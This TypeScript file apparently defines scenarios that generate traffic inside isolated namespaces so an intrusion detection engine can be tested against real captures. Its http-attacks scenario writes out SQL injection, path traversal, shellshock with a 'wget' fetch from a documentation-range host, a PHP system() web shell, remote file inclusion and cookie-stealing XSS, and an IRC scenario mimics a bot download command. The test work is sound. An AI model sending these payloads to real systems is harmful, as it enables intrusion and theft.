/**
 * What real programs do in each capture of the real-traffic comparison (tools/diff-snort/real.ts). Servers run in the
 * honeypot's namespace (10.0.0.20), clients in `outside` (10.0.0.1); every packet stays inside the namespaces the run
 * created. A scenario whose programs are absent is skipped and said so; a missing optional client is replaced (dig by
 * a Python query) or its part left out, and that is said too.
 */
import type { ChildProcess } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { ExecResult, Honeynet } from '../../test/honeynet/honeynet.js';
import { DNS_CLIENT_PY, DNS_SERVER_PY, HTTP_SERVER_PY, SSH_BANNER_SERVER_PY } from './real-servers.js';

export interface ScenarioContext {
  net: Honeynet;
  /** A directory of this run for scripts and served files. */
  dir: string;
  /** The honeypot (servers) and the outside host (clients). */
  server: string;
  client: string;
  python: string;
  /** Whether a program is on the PATH. */
  has(program: string): boolean;
  /** A line for the report (what was left out or replaced). */
  note(line: string): void;
}

export interface Scenario {
  name: string;
  what: string;
  /** Programs without which the scenario is not run at all. */
  needs: string[];
  run(ctx: ScenarioContext): Promise<void>;
}

/** A client command in `outside`; its failure is part of the traffic (a refused connection, a 404), not an error. */
function client(ctx: ScenarioContext, cmd: string | string[], timeoutMs = 20_000): Promise<ExecResult> {
  return ctx.net.exec('outside', cmd, { allowFail: true, timeoutMs });
}

/** Starts a server in the honeypot and waits for its `ready` line (the Python servers print it once they listen). */
async function startServer(ctx: ScenarioContext, argv: string[]): Promise<ChildProcess> {
  const child = ctx.net.spawn('honeypot0', argv);
  let out = '';
  await new Promise<void>((resolve, reject) => {
    const timer = setTimeout(() => reject(new Error(`server ${argv.join(' ')} did not start: ${out}`)), 10_000);
    const onData = (b: Buffer) => {
      out += b.toString();
      if (/ready/.test(out)) {
        clearTimeout(timer);
        resolve();
      }
    };
    child.stdout?.on('data', onData);
    child.stderr?.on('data', (b: Buffer) => (out += b.toString()));
    child.once('exit', (code) => {
      clearTimeout(timer);
      reject(new Error(`server ${argv.join(' ')} exited ${code}: ${out}`));
    });
  });
  return child;
}

/** Waits until something listens on a TCP port of the honeypot (for servers that print nothing, like socat). */
async function waitListening(ctx: ScenarioContext, port: number): Promise<void> {
  for (let i = 0; i < 100; i++) {
    const r = await ctx.net.exec('honeypot0', ['ss', '-Hltn', `sport = :${port}`], { allowFail: true });
    if (r.stdout.trim() !== '') return;
    await sleep(50);
  }
  throw new Error(`nothing listens on ${ctx.server}:${port}`);
}

export function sleep(ms: number): Promise<void> {
  return new Promise((r) => setTimeout(r, ms));
}

async function stopServer(child: ChildProcess): Promise<void> {
  if (child.exitCode !== null || child.signalCode !== null) return;
  const exited = new Promise<void>((r) => child.once('exit', () => r()));
  child.kill('SIGTERM');
  await exited;
}

async function withServer(ctx: ScenarioContext, argv: string[], body: () => Promise<void>): Promise<void> {
  const s = await startServer(ctx, argv);
  try {
    await body();
  } finally {
    await stopServer(s);
  }
}

function script(ctx: ScenarioContext, name: string, text: string): string {
  const p = join(ctx.dir, name);
  writeFileSync(p, text);
  return p;
}

/** The web root: a page, a GIF that carries an HTML form (ET WEB_SERVER WebShell GIF header, 2017134), a fake passwd. */
function docroot(ctx: ScenarioContext): string {
  const root = join(ctx.dir, 'www');
  mkdirSync(join(root, 'etc'), { recursive: true });
  mkdirSync(join(root, 'dir'), { recursive: true });
  writeFileSync(join(root, 'index.html'), '<html><head><title>honeypot</title></head><body><p>It works!</p></body></html>\n');
  writeFileSync(join(root, 'dir', 'index.html'), '<html><body>a directory</body></html>\n');
  writeFileSync(join(root, 'logo.gif'), 'GIF89a<html><form action="" method="post"><input name="cmd"></form></html>\n');
  writeFileSync(join(root, 'etc', 'passwd'), 'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n');
  return root;
}

async function withHttpServer(ctx: ScenarioContext, body: (base: string) => Promise<void>): Promise<void> {
  const py = script(ctx, 'http-server.py', HTTP_SERVER_PY);
  await withServer(ctx, [ctx.python, py, docroot(ctx), '80'], () => body(`http://${ctx.server}`));
}

const CURL = ['curl', '-s', '-o', '/dev/null', '--max-time', '10'];

const httpClients: Scenario = {
  name: 'http-clients',
  what: 'python http.server (plain file, gzip, chunked, 404, redirect, 150 KB, POST/PUT echo) with curl and wget',
  needs: ['curl'],
  async run(ctx) {
    await withHttpServer(ctx, async (base) => {
      const curl = (...args: string[]) => client(ctx, [...CURL, ...args]);
      await curl(`${base}/index.html`);
      // several requests on one keep-alive connection
      await client(ctx, [
        'curl',
        '-s',
        '--max-time',
        '10',
        '-o',
        '/dev/null',
        '-o',
        '/dev/null',
        '-o',
        '/dev/null',
        `${base}/`,
        `${base}/logo.gif`,
        `${base}/nothing-here`,
      ]);
      await curl('--compressed', `${base}/gzip`);
      await curl(`${base}/gzip`);
      await curl(`${base}/chunked`);
      await curl(`${base}/large`);
      await curl('-L', `${base}/redirect`);
      await curl(`${base}/dir`);
      await curl(`${base}/a%20b/%2e%2e/c%2Fd?q=%41%42%43&x=%u0041`);
      await curl('--path-as-is', `${base}/x/../index.html`);
      await curl('--path-as-is', `${base}//double//slash//index.html`);
      await curl(`${base}/search?q=${'long-query-'.repeat(300)}&page=2`);
      await curl(
        '-b',
        'session=0123456789abcdef; theme=dark; path=/',
        '-H',
        'X-Forwarded-For: 203.0.113.7',
        '-H',
        'X-Custom-Header: hello',
        `${base}/index.html`,
      );
      await curl('-d', 'user=alice&pass=secret&remember=on', `${base}/login`);
      await curl('-X', 'PUT', '--data-binary', 'a plain PUT body\n'.repeat(40), '-H', 'Content-Type: text/plain', `${base}/upload.txt`);
      await curl('-H', 'Transfer-Encoding: chunked', '--data-binary', 'chunked request body', `${base}/echo`);
      await curl('-I', `${base}/index.html`);
      if (ctx.has('wget')) {
        for (const path of ['/index.html', '/chunked', '/large', '/redirect', '/missing'])
          await client(ctx, ['wget', '-q', '-O', '/dev/null', '-t', '1', '-T', '10', `${base}${path}`]);
      } else ctx.note('wget absent: its requests skipped');
    });
  },
};

const httpAttacks: Scenario = {
  name: 'http-attacks',
  what: 'attack-looking requests (sqlmap/Nikto user agents, /etc/passwd, cmd.exe, UNION SELECT, shellshock) to the same server',
  needs: ['curl'],
  async run(ctx) {
    await withHttpServer(ctx, async (base) => {
      const curl = (...args: string[]) => client(ctx, [...CURL, ...args]);
      await curl('-A', 'sqlmap/1.3.11#stable (http://sqlmap.org)', `${base}/item.php?id=1`);
      await curl(
        '-A',
        'sqlmap/1.3.11#stable (http://sqlmap.org)',
        `${base}/item.php?id=1%20UNION%20ALL%20SELECT%20NULL,%20NULL,%20NULL,%20NULL--%20AND%201=1`,
      );
      await curl(`${base}/item.php?id=1+union+select+1,2,concat(user,0x3a,password)+from+mysql.user--`);
      await curl('-A', 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)', `${base}/cgi-bin/test-cgi`);
      await curl('-A', 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000002)', `${base}/index.php?file=../../../../etc/passwd`);
      await curl('--path-as-is', `${base}/../../etc/passwd`);
      await curl('--path-as-is', `${base}/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir`);
      await curl(`${base}/scripts/cmd.exe?/c+dir+c:\\`);
      await curl('-A', '() { :; }; /bin/bash -c "wget http://198.51.100.9/x.sh"', `${base}/cgi-bin/status`);
      await curl('-H', 'Referer: () { :;}; echo vulnerable', `${base}/cgi-bin/admin.cgi`);
      await curl(`${base}/id`);
      await curl('-d', '<?php system($_GET["c"]); ?>', `${base}/upload.php`);
      await curl(`${base}/index.php?page=http://198.51.100.9/shell.txt?`);
      await curl(`${base}/phpMyAdmin/scripts/setup.php`);
      await curl(`${base}/wp-login.php`);
      await curl('-A', 'python-requests/2.22.0', `${base}/index.html`);
      await curl(`${base}/search?q=<script>alert(document.cookie)</script>`);
      // scanners in bursts: sqlmap's rule has detection_filter (by_dst, count 4, 20 s), six requests on one keep-alive
      // connection; Nikto's has threshold (both, by_src, count 5, 60 s), six connections
      const sqlmap = Array.from({ length: 6 }, (_, i) => `${base}/item.php?id=${i}%27%20AND%20${i}=${i}--`);
      await client(ctx, [
        'curl',
        '-s',
        '--max-time',
        '10',
        '-A',
        'sqlmap/1.3.11#stable (http://sqlmap.org)',
        ...sqlmap.flatMap((u) => ['-o', '/dev/null', u]),
      ]);
      for (let i = 0; i < 6; i++) await curl('-A', `Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:00${i}100)`, `${base}/admin${i}/`);
    });
  },
};

/** A socat IRC server on 6667: a welcome, a channel message offering an .exe, then it reads until the client closes. */
async function startIrcServer(ctx: ScenarioContext): Promise<ChildProcess> {
  // the server's side as a script: socat's address parser would take the quotes and backslashes of an inline one
  const serverSide = script(
    ctx,
    'irc-server.sh',
    [
      "printf ':irc.example.net 001 bot123 :Welcome to the IRC network\\r\\n'",
      "printf ':irc.example.net 376 bot123 :End of /MOTD command.\\r\\n'",
      "printf ':boss!boss@198.51.100.9 PRIVMSG #chan :!download http://198.51.100.9/update.exe\\r\\n'",
      'cat >/dev/null',
      '',
    ].join('\n'),
  );
  const server = ctx.net.spawn('honeypot0', ['socat', 'TCP-LISTEN:6667,reuseaddr,fork', `EXEC:sh ${serverSide}`]);
  await waitListening(ctx, 6667);
  return server;
}

/** IRC-like lines, first each in one write, then cut in pieces with pauses (each piece its own segment). */
const ircSocat: Scenario = {
  name: 'irc-socat',
  what: 'IRC-like NICK/USER/JOIN/PRIVMSG lines over socat (port 6667), whole and in pieces with pauses',
  needs: ['socat'],
  async run(ctx) {
    const server = await startIrcServer(ctx);
    try {
      const whole = "printf 'NICK bot123\\r\\nUSER bot 0 * :bot\\r\\nJOIN #chan\\r\\nPRIVMSG #chan :hello\\r\\n'; sleep 0.5";
      await client(ctx, `(${whole}) | socat -t 1 - TCP:${ctx.server}:6667`);
      const pieces = ['NI', 'CK bot4', '56\\r\\nUSER bot 0 * :bot\\r\\nJO', 'IN #c', 'han\\r\\n', 'PRIVMSG #chan :.DCC SEND x.exe 1 2 3\\r\\n']
        .map((p) => `printf '${p}'; sleep 0.2`)
        .join('; ');
      await client(ctx, `(${pieces}; sleep 0.3) | socat -t 1 - TCP:${ctx.server}:6667`);
    } finally {
      await stopServer(server);
    }
  },
};

const dnsUdp: Scenario = {
  name: 'dns-udp',
  what: 'a Python DNS responder on UDP 53 and queries (dig, or Python without it) for suspicious and plain names',
  needs: [],
  async run(ctx) {
    const py = script(ctx, 'dns-server.py', DNS_SERVER_PY);
    const names = ['www.example.com', 'update.noc.su', 'login.example.pw', 'free.example.tk', 'abcdefghijklmnop.onion.plus', 'curlmyip.net'];
    await withServer(ctx, [ctx.python, py, '53'], async () => {
      if (ctx.has('dig')) {
        for (const n of names) await client(ctx, ['dig', '+tries=1', '+time=2', `@${ctx.server}`, n]);
        await client(ctx, ['dig', '+tries=1', '+time=2', `@${ctx.server}`, 'example.com', 'TXT']);
      } else {
        ctx.note('dig absent: the queries are sent by a Python client');
        const q = script(ctx, 'dns-query.py', DNS_CLIENT_PY);
        for (const n of names) await client(ctx, [ctx.python, q, ctx.server, '53', n]);
      }
    });
  },
};

const icmpPing: Scenario = {
  name: 'icmp',
  what: 'ping (default payload, -p pattern) and ping -s 4000 (IP fragments both ways)',
  needs: ['ping'],
  async run(ctx) {
    await client(ctx, ['ping', '-n', '-c', '3', '-i', '0.2', ctx.server]);
    await client(ctx, ['ping', '-n', '-c', '3', '-i', '0.2', '-p', '6162636465666768696a6b6c6d6e6f70', ctx.server]);
    await client(ctx, ['ping', '-n', '-c', '2', '-i', '0.2', '-s', '4000', ctx.server]);
    await client(ctx, ['ping', '-n', '-c', '1', '-s', '1200', '-p', 'ff', ctx.server]);
  },
};

const ssh: Scenario = {
  name: 'ssh',
  what: 'ssh client against an SSH server up to key exchange (libssh banner), six connections in a row',
  needs: ['ssh'],
  async run(ctx) {
    const py = script(ctx, 'ssh-server.py', SSH_BANNER_SERVER_PY);
    ctx.note('ssh: a Python server up to key exchange (banner, KEXINIT), not sshd');
    await withServer(ctx, [ctx.python, py, '22'], async () => {
      for (let i = 0; i < 6; i++)
        await client(ctx, [
          'ssh',
          '-o',
          'BatchMode=yes',
          '-o',
          'StrictHostKeyChecking=no',
          '-o',
          'UserKnownHostsFile=/dev/null',
          '-o',
          'ConnectTimeout=5',
          '-F',
          '/dev/null',
          `root@${ctx.server}`,
          'id',
        ]);
    });
  },
};

const nmapScans: Scenario = {
  name: 'nmap',
  what: 'nmap SYN, XMAS, FIN and NULL scans and OS detection against the honeypot (HTTP and IRC ports open)',
  needs: ['nmap', 'socat'],
  async run(ctx) {
    const ports = '21-23,25,53,80,110,111,135,139,443,445,1433,3306,3389,6667,8080';
    await withHttpServer(ctx, async () => {
      const irc = await startIrcServer(ctx);
      try {
        const nmap = (...args: string[]) => client(ctx, ['nmap', '-n', '-Pn', '-T4', '--max-retries', '1', '-p', ports, ...args, ctx.server], 60_000);
        await nmap('-sS');
        await nmap('-sX');
        await nmap('-sF');
        await nmap('-sN');
        await nmap('-O', '--osscan-guess');
      } finally {
        await stopServer(irc);
      }
    });
  },
};

/**
 * TLS: an openssl s_server with a self-signed certificate whose subject is openssl's demo one ("Internet Widgits Pty
 * Ltd", "SomeOrganizationalUnit": ET POLICY 2011540, 2013659), curl over TLS 1.2 (the certificate in clear) and TLS
 * 1.3 (encrypted), and an SNI of cloudflare-dns.com (ET POLICY 2027695).
 */
const tls: Scenario = {
  name: 'tls',
  what: 'openssl s_server (self-signed demo-CA certificate) with curl over TLS 1.2 and 1.3, one SNI that ET names',
  needs: ['openssl', 'curl'],
  async run(ctx) {
    const key = join(ctx.dir, 'tls-key.pem');
    const cert = join(ctx.dir, 'tls-cert.pem');
    const subject = '/C=AU/ST=Some-State/O=Internet Widgits Pty Ltd/OU=SomeOrganizationalUnit/CN=localhost';
    await ctx.net.exec('honeypot0', [
      'openssl',
      'req',
      '-x509',
      '-newkey',
      'ec',
      '-pkeyopt',
      'ec_paramgen_curve:prime256v1',
      '-nodes',
      '-days',
      '2',
      '-subj',
      subject,
      '-keyout',
      key,
      '-out',
      cert,
    ]);
    const server = ctx.net.spawn('honeypot0', ['openssl', 's_server', '-quiet', '-accept', '443', '-cert', cert, '-key', key, '-www']);
    try {
      await waitListening(ctx, 443);
      const https = (...args: string[]) => client(ctx, ['curl', '-s', '-k', '-o', '/dev/null', '--max-time', '10', ...args]);
      await https('--tls-max', '1.2', `https://${ctx.server}/`);
      await https(`https://${ctx.server}/`);
      await https('--tls-max', '1.2', '--resolve', `cloudflare-dns.com:443:${ctx.server}`, 'https://cloudflare-dns.com/dns-query?name=example.com');
    } finally {
      await stopServer(server);
    }
  },
};

export const SCENARIOS: readonly Scenario[] = [httpClients, httpAttacks, ircSocat, dnsUdp, icmpPing, ssh, tls, nmapScans];
